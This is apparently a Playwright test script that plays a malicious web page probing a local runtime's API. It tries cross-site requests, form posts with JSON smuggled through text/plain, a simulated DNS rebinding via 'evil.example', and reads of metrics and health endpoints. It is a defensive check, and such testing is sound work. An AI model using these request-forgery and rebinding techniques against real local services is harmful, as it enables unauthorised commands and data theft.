// A web page that its user happens to open, and what it can try on a runtime on the same machine.
// usage: node attack.mjs CHROMIUM RUNTIME_URL SUBMISSION_JSON VICTIM_PLAN
// Prints one JSON line: {"answers": [[status, method, url], ...], "read": [what a script could read, ...]}
import { createServer } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

const [browserPath, runtime, submission, victim] = process.argv.slice(2);
const rebound = `http://evil.example:${new URL(runtime).port}`;

const pages = createServer((request, response) => {
  response.writeHead(200, { 'Content-Type': 'text/html' });
  response.end('<!doctype html><title>a page</title><iframe name="hole"></iframe>');
});
await new Promise(resolve => pages.listen(0, '127.0.0.1', resolve));
const foreign = `http://127.0.0.1:${pages.address().port}/`;

const profile = mkdtempSync(join(tmpdir(), 'attack-'));
const context = await chromium.launchPersistentContext(profile, {
  executablePath: browserPath,
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
});

const answers = [];
context.on('response', answer => {
  // The page of the name that is led elsewhere is not the runtime's answer.
  if (new URL(answer.url()).port === new URL(runtime).port && answer.url() !== `${rebound}/page`)
    answers.push([answer.status(), answer.request().method(), answer.url()]);
});

// Everything that a script of a page can send. Answers what it could read of the answers.
const attempts = async ({ target, submission, victim }) => {
  const read = [];
  const settle = async (what, promise) => {
    try {
      const outcome = await Promise.race([promise, new Promise(resolve => setTimeout(resolve, 3000))]);
      if (outcome) read.push(`${what}: ${outcome}`);
    } catch { /* what the browser or the runtime refused */ }
  };
  const plans = `${target}/api/plans`;
  const cancel = `${plans}/${victim}/commands/cancel`;
  const text = async response => response.ok ? await response.text() : '';
  const json = { 'Content-Type': 'application/json' };
  for (const url of [plans, cancel]) {
    const body = url === plans ? submission : '{}';
    await settle('no-cors blob', fetch(url, { method: 'POST', mode: 'no-cors', body: new Blob([body]) }).then(text));
    await settle('no-cors text', fetch(url, { method: 'POST', mode: 'no-cors', body }).then(text));
    await settle('no-cors, with cookies', fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).then(text));
    await settle('cors', fetch(url, { method: 'POST', headers: json, body }).then(text));
    await settle('cors with a token', fetch(url, { method: 'POST', headers: { ...json, Authorization: 'Bearer x' }, body }).then(text));
    await settle('no body', fetch(url, { method: 'POST', mode: 'no-cors' }).then(text));
    await settle('stream', (async () => text(await fetch(url, { method: 'POST', duplex: 'half', body: new Blob([body]).stream() })))());
    await settle('XHR', new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.onload = () => resolve(request.status < 300 && request.responseText);
      request.onerror = reject;
      request.send(body);
    }));
    navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }));
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: url, enctype, target: 'hole' });
      const field = document.createElement('input');
      // As text/plain, name and value with '=' between them are the JSON.
      const cut = body.indexOf(':') + 1;
      Object.assign(field, { name: body.slice(0, cut) + '"', value: '",' + body.slice(cut) });
      form.append(field);
      document.body.append(form);
      form.submit();
      await new Promise(resolve => setTimeout(resolve, 300));
    }
  }
  for (const url of [plans, `${target}/q/metrics`, `${target}/q/health`]) {
    await settle('GET', fetch(url).then(text));
    await settle('GET no-cors', fetch(url, { mode: 'no-cors' }).then(text));
    await settle('img', new Promise((resolve, reject) => Object.assign(new Image(), { onload: () => resolve('an image'), onerror: reject, src: url })));
    await settle('script', new Promise((resolve, reject) => document.head.append(
      Object.assign(document.createElement('script'), { onload: () => resolve('a script'), onerror: reject, src: url }))));
    await settle('EventSource', new Promise((resolve, reject) => {
      const source = new EventSource(url);
      source.onopen = () => resolve('open');
      source.onerror = () => { source.close(); reject(new Error('refused')); };
    }));
    await settle('WebSocket', new Promise((resolve, reject) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => resolve('open');
      socket.onerror = reject;
    }));
  }
  return read;
};

let read = [];
try {
  // A page from another port of the same host: the same site, another origin.
  const page = await context.newPage();
  await page.goto(foreign);
  // A page of a name that led to its author's server and leads here now: the same origin, as far as the browser knows.
  const other = await context.newPage();
  await other.route(`${rebound}/page`, route => route.fulfill({ contentType: 'text/html', body: '<title>a page</title><iframe name="hole"></iframe>' }));
  await other.goto(`${rebound}/page`);
  const [ofPort, ofName] = await Promise.all([
    page.evaluate(attempts, { target: runtime, submission, victim }),
    other.evaluate(attempts, { target: rebound, submission, victim }),
  ]);
  read = [...ofPort.map(what => `other port: ${what}`), ...ofName.map(what => `rebound: ${what}`)];
  // A link.
  const opened = await page.goto(`${rebound}/api/plans`);
  if (opened.ok()) read.push('rebound: link');
} finally {
  await context.close();
  pages.close();
  rmSync(profile, { recursive: true, force: true });
}
console.log(JSON.stringify({ answers, read }));
